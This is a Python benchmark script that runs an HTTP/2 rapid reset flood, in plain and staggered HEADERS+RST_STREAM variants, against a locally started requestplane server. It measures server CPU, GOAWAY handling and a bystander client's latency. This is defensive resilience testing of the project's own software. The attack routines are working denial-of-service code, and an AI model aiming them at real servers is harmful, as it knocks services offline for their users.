"""HTTP/2 rapid reset against the transport's server: what it costs the server and its clients.

The server runs in its own process. One attacker connection writes N HEADERS+RST_STREAM pairs
(a POST to the echo endpoint, reset at once) as fast as the socket takes them, then a PING,
and reads until the PING's ACK (the server got through every pair) or the end of the
connection. Meanwhile a well-behaved requestplane client calls the echo endpoint one call
after another on its own connection. Reported: the server's CPU for the attack, how the
attacker's connection ended (GOAWAY and its error code), the other client's slowest call,
and whether the server wrote a traceback.

    flock /tmp/requestplane-bench.lock python benchmarks/http_rapid_reset.py [--pairs 5000]
        [--staggered K] [--backend trio]
"""

from __future__ import annotations

import argparse
import os
import subprocess
import sys
import tempfile
import time
from typing import IO
from urllib.parse import urlsplit

import anyio
import h2.config
import h2.connection
import h2.events
import h2.exceptions


async def _serve(backend: str) -> None:
    from requestplane_core import Request, load_plugins, load_settings, serve
    from requestplane_core.config import transport_env_prefix

    async def echo(request: Request) -> bytes:
        return request.payload

    async def wait(request: Request) -> bytes:
        await anyio.sleep(1)  # a handler waiting on something, still running when reset
        return b""

    spec = load_plugins(only="http").transport("http").spec
    settings = load_settings(spec.settings, prefix=transport_env_prefix("http"), environ=os.environ)
    async with serve(spec, settings) as server:
        await server.register("wait", wait)
        print(await server.register("echo", echo), flush=True)
        await anyio.to_thread.run_sync(sys.stdin.read)


def _server_cpu(pid: int) -> float:
    """CPU seconds the server process has used (Linux)."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _attack_bytes(url: str, pairs: int) -> tuple[h2.connection.H2Connection, bytes]:
    """The attacker's whole input, encoded before the clock starts (encoding 20,000 pairs
    takes this process about a second, which would hold up the other client's calls)."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    parts = urlsplit(url)
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", parts.netloc),
        (":path", parts.path),
    ]
    for _ in range(pairs):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(stream_id, headers, end_stream=True)
        conn.reset_stream(stream_id)
    conn.ping(b"all sent")
    return conn, conn.data_to_send()


async def _attack(url: str, conn: h2.connection.H2Connection, data: bytes) -> str:
    """How the attacker's connection ended."""
    parts = urlsplit(url)
    assert parts.hostname is not None and parts.port is not None
    async with await anyio.connect_tcp(parts.hostname, parts.port) as sock:
        try:
            await sock.send(data)
        except (anyio.BrokenResourceError, OSError) as exc:
            return f"the server closed while the pairs were sent ({exc!r})"
        while True:
            try:
                data = await sock.receive()
            except (anyio.EndOfStream, anyio.BrokenResourceError, OSError) as exc:
                return f"connection closed without GOAWAY ({type(exc).__name__})"
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError as exc:
                return f"protocol error {exc!r}"
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    return f"GOAWAY {event.error_code!r}, last stream {event.last_stream_id}"
                if isinstance(event, h2.events.PingAckReceived):
                    return "the server processed every pair (PING acknowledged)"


async def _staggered_attack(url: str, pairs: int, batch: int) -> str:
    """Rounds of ``batch`` HEADERS and a PING; once the PING is acknowledged (the server
    has started those streams), their RST_STREAMs go out with the next round's HEADERS: no
    stream is reset in the read that opened it, every one starts a handler."""
    parts = urlsplit(url.replace("/echo", "/wait"))
    assert parts.hostname is not None and parts.port is not None
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", parts.netloc),
        (":path", parts.path),
    ]
    opened: list[int] = []
    sent = 0
    async with await anyio.connect_tcp(parts.hostname, parts.port) as sock:
        while True:
            for stream_id in opened:
                conn.reset_stream(stream_id)
            opened = []
            for _ in range(min(batch, pairs - sent)):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, headers, end_stream=True)
                opened.append(stream_id)
            sent += len(opened)
            conn.ping(b"%07d" % sent + b"!")
            try:
                await sock.send(conn.data_to_send())
            except (anyio.BrokenResourceError, OSError) as exc:
                return f"the server closed while the pairs were sent ({exc!r})"
            acknowledged = False
            while not acknowledged:
                try:
                    data = await sock.receive()
                except (anyio.EndOfStream, anyio.BrokenResourceError, OSError) as exc:
                    return f"connection closed without GOAWAY ({type(exc).__name__})"
                try:
                    events = conn.receive_data(data)
                except h2.exceptions.ProtocolError as exc:
                    return f"protocol error {exc!r}"
                for event in events:
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return f"GOAWAY {event.error_code!r}, last stream {event.last_stream_id}"
                    if isinstance(event, h2.events.PingAckReceived):
                        acknowledged = True
            if not opened:
                return "the server processed every pair (PING acknowledged)"


def _start_server(backend: str, stderr: IO[str]) -> tuple[subprocess.Popen[str], str]:
    proc = subprocess.Popen(
        [sys.executable, __file__, "--serve", "--backend", backend],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=stderr,
        text=True,
    )
    assert proc.stdout is not None
    url = proc.stdout.readline().strip()
    if not url:
        raise SystemExit("the server did not start")
    return proc, url


async def _main(args: argparse.Namespace) -> None:
    from requestplane_core import load_plugins, load_settings

    with tempfile.TemporaryFile("w+") as stderr:
        proc, url = _start_server(args.backend, stderr)
        try:
            spec = load_plugins(only="http").transport("http").spec
            settings = load_settings(spec.settings, prefix="REQUESTPLANE_HTTP_", environ={})
            async with spec.client(settings) as client:
                for _ in range(20):
                    await client.request(url, b"warm")
                latencies: list[float] = []
                attacking = True

                async def victim() -> None:
                    while attacking:
                        start = time.perf_counter()
                        await client.request(url, b"x" * 1024)
                        latencies.append(time.perf_counter() - start)

                conn, attack = _attack_bytes(url, args.pairs)
                cpu0 = _server_cpu(proc.pid)
                wall0 = time.perf_counter()
                async with anyio.create_task_group() as tg:
                    tg.start_soon(victim)
                    if args.staggered:
                        outcome = await _staggered_attack(url, args.pairs, args.staggered)
                    else:
                        outcome = await _attack(url, conn, attack)
                    attack_wall = time.perf_counter() - wall0
                    attacking = False
                cpu = _server_cpu(proc.pid) - cpu0
                assert await client.request(url, b"after") == b"after"
        finally:
            assert proc.stdin is not None
            proc.stdin.close()
            proc.wait(30)
        stderr.seek(0)
        errors = stderr.read()
    latencies.sort()
    how = f", staggered in rounds of {args.staggered}" if args.staggered else ""
    print(f"{args.pairs} HEADERS+RST_STREAM pairs{how}, server on {args.backend}")
    print(f"  attacker's connection: {outcome} after {attack_wall:.2f} s")
    print(f"  server CPU during the attack: {cpu:.2f} s")
    if latencies:
        print(
            f"  other client, {len(latencies)} calls meanwhile: median "
            f"{latencies[len(latencies) // 2] * 1000:.1f} ms, slowest {latencies[-1] * 1000:.1f} ms"
        )
    traceback = "Traceback" in errors
    print(f"  server stderr: {'a traceback' if traceback else 'no traceback'}")
    if args.verbose and errors:
        print(errors)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--backend", choices=["asyncio", "trio"], default="asyncio")
    parser.add_argument("--pairs", type=int, default=5000)
    parser.add_argument(
        "--staggered",
        type=int,
        metavar="K",
        default=0,
        help="open K streams (to a handler that waits 1 s), wait until the server has read "
        "them, then reset them along with the next K: every stream starts a handler",
    )
    parser.add_argument("--verbose", action="store_true", help="print the server's stderr")
    parser.add_argument("--serve", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.serve:
        anyio.run(_serve, args.backend, backend=args.backend)
    else:
        anyio.run(_main, args, backend=args.backend)


if __name__ == "__main__":
    main()
